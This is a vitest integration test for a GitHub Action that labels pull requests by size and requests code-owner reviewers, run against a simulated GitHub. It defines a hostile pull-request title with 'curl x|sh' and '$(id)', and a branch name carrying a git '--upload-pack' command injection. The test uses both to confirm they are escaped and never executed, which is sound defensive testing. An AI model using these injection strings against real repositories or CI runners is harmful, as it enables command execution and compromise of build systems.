/**
 * The bundle (dist/index.js) run as the runner runs it, against the simulated GitHub, with real
 * webhook payloads.
 */
import { existsSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { findMarker } from '@autoheal/core/markers';
import { runAction } from '@autoheal/testkit/harness/run-action';
import { SIMULATOR_TOKEN } from '@autoheal/testkit/simulator/seed-builder';
import { afterEach, describe, expect, it } from 'vitest';
import {
  READ_ONLY_TOKEN,
  REPO,
  startWorld,
  type World,
  webhookExample,
  withFields,
  writesSince,
} from './world.js';

const actionDir = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const KNOBS = { AUTOHEAL_WAIT_SCALE_MS: '1', AUTOHEAL_WRITE_PACING_MS: '0' };
const EVIL_TITLE = 'a"; curl x|sh; "$(id)';
const EVIL_BRANCH = '--upload-pack=touch${IFS}pwned;$(touch pwned)';

function pullRequestEvent(action: string, number: number) {
  return {
    name: 'pull_request',
    payload: withFields(webhookExample('pull_request', action), { number, 'pull_request.number': number }),
  };
}

function reviewer(
  world: World,
  event: { name: string; payload: unknown },
  extra: { inputs?: Record<string, string>; token?: string } = {},
) {
  return runAction({
    actionDir,
    event,
    repository: REPO,
    apiUrl: world.url,
    token: extra.token ?? SIMULATOR_TOKEN,
    env: KNOBS,
    ...(extra.inputs ? { inputs: extra.inputs } : {}),
  });
}

let world: World | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

describe('pr-reviewer bundle', () => {
  it('sizes a 200-file pull request with a lockfile, and a hostile title and branch pass through as data', async () => {
    const files: Record<string, string> = { 'package-lock.json': '{}\n'.repeat(3000) };
    for (let i = 0; i < 199; i++)
      files[`src/mod${String(i).padStart(3, '0')}.ts`] =
        `export const m${i} = ${i};\nexport default m${i};\n`;
    world = await startWorld((r) =>
      r.branch(EVIL_BRANCH, files).pull({ title: EVIL_TITLE, author: 'dave', head: EVIL_BRANCH }),
    );
    const result = await reviewer(world, pullRequestEvent('opened', 1));
    expect(result.stderr).toBe('');
    expect(result.exitCode).toBe(0);
    expect(result.annotations.filter((a) => a.level === 'error')).toEqual([]);
    // 199 files × 2 lines; the 3,000-line lockfile is left out.
    expect(result.outputs).toMatchObject({ size: 'L', labels: 'size/L', result: 'reviewed' });
    expect(world.sim.requestsTo('GET', '/repos/{owner}/{repo}/pulls/{pull_number}/files')).toHaveLength(2);
    expect(world.repo.issues.get(1)!.labels).toEqual(['size/L']);
    const comment = world.repo.issues.get(1)!.comments.find((c) => findMarker(c.body, 'pr-review'))!;
    expect(comment.body).toContain('**size/L** · 398 changed lines in 199 files');
    expect(comment.body).toContain('package-lock.json (lockfile, 3,000 lines)');
    expect(comment.body).toContain('Lockfile changed without its manifest');
    // The title and branch are shown escaped in the job summary and never reach a shell.
    expect(result.summary).toContain('a&quot;; curl x&#x7C;sh; &quot;&#x24;(id)');
    expect(result.summary).toContain('upload-pack=touch&#x24;{IFS}pwned;&#x24;(touch pwned)');
    expect(result.summary).not.toContain('$(id)');
    expect(existsSync(path.join(result.tempDir, 'workspace', 'pwned'))).toBe(false);
    expect(existsSync(path.join(actionDir, 'pwned'))).toBe(false);
    expect(existsSync('pwned')).toBe(false);
  });

  it('requests the code owners GitHub would: last matching line, teams and users, the author skipped; a re-run adds nothing', async () => {
    world = await startWorld((r) =>
      r
        .file(
          'CODEOWNERS',
          // Not used: .github/CODEOWNERS (from the base repository) comes first.
          '* @octo-org/nobody\n',
        )
        .branch('owners', {
          'src/api/handler.ts': 'export const a = 3;\n', // /src/api/ → alice, bob (alice is the author)
          'src/api/generated/types.ts': 'x\n', // /src/api/generated/ → no owner at all
          'docs/intro.md': 'hi\n', // *.md, then docs/* wins → team docs
          'docs/deep/page.md': 'deep\n', // docs/* does not reach here → *.md → carol
          'tools/build.sh': 'echo hi\n', // * → team core
        })
        .pull({ title: 'Owners', author: 'alice', head: 'owners' }),
    );
    const first = await reviewer(world, pullRequestEvent('opened', 1));
    expect(first.exitCode).toBe(0);
    expect(first.outputs.reviewers).toBe('carol,bob,octo-org/docs,octo-org/core');
    expect(world.repo.issues.get(1)!.pull!.requested_reviewers).toEqual(['carol', 'bob']);
    expect(world.repo.issues.get(1)!.pull!.requested_teams).toEqual(['docs', 'core']);
    const request = world.sim.requestsTo(
      'POST',
      '/repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers',
    )[0]!;
    expect(request.body).toEqual({ reviewers: ['carol', 'bob'], team_reviewers: ['docs', 'core'] });
    expect(
      world.sim
        .requestsTo('GET', '/repos/{owner}/{repo}/contents/{path}')
        .map((r) => decodeURIComponent(r.path)),
    ).toContain('/repos/octo-org/widgets/contents/.github/CODEOWNERS');

    const mark = world.sim.requests.length;
    const second = await reviewer(world, pullRequestEvent('synchronize', 1));
    expect(second.exitCode).toBe(0);
    expect(second.outputs.result).toBe('unchanged');
    expect(writesSince(world.sim, mark)).toEqual([]);
    expect(world.repo.issues.get(1)!.comments).toHaveLength(1);
  });

  it('succeeds with a notice on a read-only token and puts the review in the job summary', async () => {
    world = await startWorld((r) =>
      r
        .branch('fork-change', { 'src/api/handler.ts': 'x\n' })
        .pull({ title: 'From a fork', author: 'dave', head: 'fork-change' }),
    );
    const result = await reviewer(world, pullRequestEvent('opened', 1), { token: READ_ONLY_TOKEN });
    expect(result.exitCode).toBe(0);
    expect(result.outputs.result).toBe('read-only');
    expect(result.annotations.some((a) => a.level === 'notice' && /read-only/.test(a.message))).toBe(true);
    expect(result.summary).toContain('### autoheal pull request review');
    expect(world.repo.issues.get(1)!.comments).toHaveLength(0);
  });

  it('fails with one clear error per bad input', async () => {
    world = await startWorld(() => {});
    const result = await reviewer(world, pullRequestEvent('opened', 1), {
      inputs: { 'max-reviewers': '99', 'dry-run': 'maybe' },
    });
    expect(result.exitCode).toBe(1);
    expect(result.annotations.filter((a) => a.level === 'error').map((a) => a.message)).toEqual([
      expect.stringMatching(/^Input "dry-run" must be true or false/),
      expect.stringMatching(/^Input "max-reviewers" must be an integer from 1 to 15; got "99"/),
    ]);
    expect(world.sim.requests).toEqual([]);
  });
});
